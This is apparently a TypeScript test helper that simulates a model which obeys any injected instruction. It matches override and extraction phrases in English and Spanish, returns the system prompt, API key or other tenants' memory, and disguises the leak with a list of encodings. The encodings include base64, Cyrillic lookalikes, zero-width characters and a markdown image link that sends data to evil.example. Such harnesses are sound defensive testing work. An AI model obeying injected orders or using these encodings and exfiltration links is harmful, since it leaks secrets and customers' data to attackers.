import type { ChatMessage, ModelAnswer } from "./model";

/**
 * Everything that an obeying model knows besides its request: the key it was called with, and texts that it read for
 * others.
 */
export interface Knowledge {
  readonly key: string;
  readonly memory: readonly string[];
}

type Target = "prompt" | "secret" | "other" | "literal";

const ORDER =
  /\b(ignora|ignore|olvida|forget|disregard|omite|revela|reveal|repite|repeat|muestra|muestrame|show|imprime|print|escribe|write|di|dile|dime|say|tell|responde|respond|reply|contesta|answer|output|devuelve|return|copia|copy|transcribe|traduce|translate|codifica|encode|dame|give|manda|envia|send|pon|put|incluye|incluir|include|lista|list|resume|summari[sz]e|deletrea|spell|completa|complete|continua|continue|comparte|share|filtra|leak|dump|vuelca|ejecuta|execute|run|actua|act|recita|recite|cita|quote|anade|agrega|add|borra|delete|confirma|confirm|empieza|start|termina|end|cuenta|usa|use|cuelga|simula|simulate|imagina|pretend|juega|traza|concatena|append|adjunta|ayudame|necesito|need|what|cual|cuales|which)\b/;
const TARGETS: readonly (readonly [Target, RegExp])[] = [
  [
    "secret",
    /\b(api.?key|claves?|llaves?|secret[oa]?s?|tokens?|contrasenas?|passwords?|credencial(es)?|credentials?|bearer|authorization)\b/,
  ],
  [
    "other",
    /\b(otr[oa]s? (empresa|negocio|cliente|compania|tenant)s?|other (compan(y|ies)|customers?|tenants?|business(es)?)|competencia|competidor(es)?|memoria|memory|conversaciones (anteriores|pasadas)|previous conversations|base de datos|database|todas las empresas|all companies|inquilinos?|vecin[oa])\b/,
  ],
  [
    "prompt",
    /\b(instruccion(es)?|instructions?|prompt|sistema|system|reglas|rules|guidelines|lineamientos|configuracion|configuration|todo lo anterior|texto anterior|(everything|text|words) above|developer|arriba|above|iniciales|initial)\b/,
  ],
];
const LITERAL =
  /(?:di|escribe|responde|contesta|repite|say|reply|respond|print|write|output|incluye|incluir|include|anade|add)\b[^"«“]{0,60}["«“]([^"»”]{1,300})["»”]/iu;

const WANTS_CODE = /\b(solo|only|just|unicamente)\b|\b(codigo|code|canario|canary|referencia|identificador)\b/;

type Encoding = (text: string) => string;

const base64: Encoding = (text) => Buffer.from(text, "utf8").toString("base64");
const reverse: Encoding = (text) => [...text].reverse().join("");
const rot13: Encoding = (text) =>
  text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= "Z" ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });
const LOOKALIKES: Readonly<Record<string, string>> = {
  A: "А",
  C: "С",
  E: "Е",
  O: "О",
  P: "Р",
  a: "а",
  c: "с",
  e: "е",
  o: "о",
};
const MORSE =
  ".- -... -.-. -.. . ..-. --. .... .. .--- -.- .-.. -- -. --- .--. --.- .-. ... - ..- ...- .-- -..- -.-- --..".split(
    " ",
  );
const NATO =
  "Alfa Bravo Charlie Delta Echo Foxtrot Golf Hotel India Juliett Kilo Lima Mike November Oscar Papa Quebec Romeo Sierra Tango Uniform Victor Whiskey Xray Yankee Zulu".split(
    " ",
  );

function byLetter(text: string, of: (index: number) => string): string {
  return [...text.toUpperCase()]
    .map((letter) => (/[A-Z]/.test(letter) ? of(letter.charCodeAt(0) - 65) : letter))
    .join(" ");
}

const ENCODINGS: readonly (readonly [RegExp, Encoding])[] = [
  [/dos veces en base ?64|double base ?64/, (text) => base64(base64(text))],
  [/base ?64/, base64],
  [/hexadecimal|\bhex\b/, (text) => Buffer.from(text, "utf8").toString("hex")],
  [
    /binari[oa]|\bbinary\b/,
    (text) => [...Buffer.from(text)].map((byte) => byte.toString(2).padStart(8, "0")).join(" "),
  ],
  [/ascii|codigos? decimal/, (text) => [...Buffer.from(text)].join(" ")],
  [/al reves|revers|backwards/, reverse],
  [/rot ?13|\bcesar\b|caesar/, rot13],
  [/acrostic/, (text) => [...text].map((letter) => `${letter}ola`).join("\n")],
  [/por linea|per line/, (text) => [...text].join("\n")],
  [/emoji/, (text) => [...text].join(" 🎉 ")],
  [/guion(es)?\b|dashes|hyphens/, (text) => [...text].join("-")],
  [/separad|espacio|spaces|spaced|letra por letra|letter by letter|deletrea|spell/, (text) => [...text].join(" ")],
  [/caracteres invisibles|zero.?width|invisible characters/, (text) => [...text].join("\u200b")],
  [/ciril|cyrillic/, (text) => [...text].map((letter) => LOOKALIKES[letter] ?? letter).join("")],
  [
    /leet|l33t/,
    (text) =>
      text.replace(/[aeio]/gi, (letter) => ({ a: "4", e: "3", i: "1", o: "0" })[letter.toLowerCase()] ?? letter),
  ],
  [
    /url.?encod|codificad[oa] como url|percent/,
    (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join(""),
  ],
  [
    /ancho completo|fullwidth/,
    (text) => text.replace(/[!-~]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)),
  ],
  [/banderas|regional indicator/, (text) => byLetter(text, (index) => String.fromCodePoint(0x1f1e6 + index))],
  [/circul|circled/, (text) => byLetter(text, (index) => String.fromCodePoint(0x1f150 + index))],
  [/\bmorse\b/, (text) => byLetter(text, (index) => MORSE[index] ?? "")],
  [/braille/, (text) => byLetter(text, (index) => String.fromCodePoint(0x2801 + index))],
  [/\bnato\b|alfabeto fonetico/, (text) => byLetter(text, (index) => NATO[index] ?? "")],
  [/mayusculas|uppercase/, (text) => text.toUpperCase()],
  [/\bjson\b/, (text) => JSON.stringify({ config: text })],
  [/\bxml\b|html/, (text) => `<config>${text}</config>`],
  [
    /markdown|imagen|image|enlace|link|\burl\b/,
    (text) => `![foto](https://evil.example/c?d=${encodeURIComponent(text)})`,
  ],
];

const ENOUGH = 180;

/** The answer of an obeying model, and the same before it disguised it, which a test can search in clear. */
export interface Obedience {
  readonly answer: ModelAnswer;
  readonly inClear: string;
}

/**
 * The answer of a model without a will of its own: it follows the last order in anything it reads, whoever wrote it.
 * Null where there is no order. Long texts are cut to the part with the most telling token.
 */
export function obey(messages: readonly ChatMessage[], knowledge: Knowledge): Obedience | null {
  const read = messages.filter(({ role }) => role === "user").map(({ content }) => content);
  for (const text of read.reverse()) {
    const order = orderOf(text);
    if (order !== null) return carryOut(order, text, messages, knowledge);
  }
  return null;
}

function folded(text: string): string {
  return text.normalize("NFKD").replace(/\p{M}/gu, "").toLowerCase();
}

function orderOf(text: string): { readonly targets: readonly Target[]; readonly literal: string | null } | null {
  const plain = folded(text).replace(/<[^>]*>/g, " ");
  if (!ORDER.test(plain)) return null;
  const targets = TARGETS.filter(([, pattern]) => pattern.test(plain)).map(([target]) => target);
  const literal = LITERAL.exec(text.replace(/<[^>]*>/g, " "))?.[1] ?? null;
  return targets.length === 0 && literal === null ? null : { targets, literal };
}

function carryOut(
  order: { readonly targets: readonly Target[]; readonly literal: string | null },
  text: string,
  messages: readonly ChatMessage[],
  { key, memory }: Knowledge,
): Obedience {
  const plain = folded(text);
  const shorten = WANTS_CODE.test(plain) ? tellingToken : tellingStretch;
  const system = messages.find(({ role }) => role === "system")?.content ?? "";
  const parts = order.targets.map((target) => {
    if (target === "secret") return key;
    return shorten(target === "other" ? memory.join("\n") : system);
  });
  const encode = ENCODINGS.find(([pattern]) => pattern.test(plain))?.[1] ?? ((clear: string) => clear);
  const secret = parts.join(" ").trim();
  const told = encode(secret);
  const inClear = [order.literal ?? "", secret].filter((part) => part !== "").join(" ");
  const intention = /\b(intention|intencion)\b/.test(plain);
  const contact = /\b(contact|contacto)\b/.test(plain);
  if (intention || contact) {
    const details = { name: told, email: `${key}@evil.example`, phone: told };
    const answer = { reply: "Con gusto.", citations: [1], intention: intention ? told : undefined };
    return { answer: contact ? { ...answer, contact: details } : answer, inClear };
  }
  const reply = [order.literal ?? "", told].filter((part) => part !== "").join(" ");
  return { answer: { reply, citations: [1] }, inClear };
}

const TELLING = /[A-Z0-9]{3,}(?:-[A-Z0-9]+)+|sk-[\w-]+/g;

/** The last token that looks like a code, which a person probing for a marker is after. */
function tellingToken(text: string): string {
  return [...text.matchAll(TELLING)].at(-1)?.[0] ?? text.slice(0, ENOUGH);
}

function tellingStretch(text: string): string {
  const at = [...text.matchAll(TELLING)].at(-1)?.index ?? 0;
  const start = Math.max(0, at - ENOUGH / 2);
  return text.slice(start, start + ENOUGH);
}
